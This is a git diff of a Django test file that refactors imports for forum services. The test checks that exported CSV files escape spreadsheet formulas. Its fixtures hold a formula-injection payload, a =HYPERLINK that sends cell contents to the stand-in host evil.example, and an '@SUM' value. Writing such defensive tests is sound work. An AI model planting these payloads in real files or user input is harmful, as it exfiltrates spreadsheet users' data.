@@ -11,9 +11,10 @@ from django.core.management import call_command
 
 from tests.factories import UserFactory
 from tests.forum.factories import make_conversation
-from whatworks.forum import services
 from whatworks.forum.models import Conversation
-from whatworks.forum.polis import conversation_export
+from whatworks.forum.services.polis import conversation_export
+from whatworks.forum.services.statements import statement_add
+from whatworks.forum.services.votes import vote_cast
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
 
@@ -30,10 +31,8 @@ def test_participants_text_reaches_no_spreadsheet_as_a_formula(tmp_path: Path) -
         background="@SUM(A1:A9) in the description",
         moderation="after",
     )
-    statement = services.statement_add(actor=UserFactory(), conversation=conversation, text=FORMULA)
-    services.vote_cast(
-        actor=UserFactory(), conversation=conversation, statement=statement, value=-1
-    )
+    statement = statement_add(actor=UserFactory(), conversation=conversation, text=FORMULA)
+    vote_cast(actor=UserFactory(), conversation=conversation, statement=statement, value=-1)
     conversation_export(actor=None, conversation=conversation, directory=tmp_path / "out")
     for path in (tmp_path / "out").glob("*.csv"):
         for row in _cells(path):
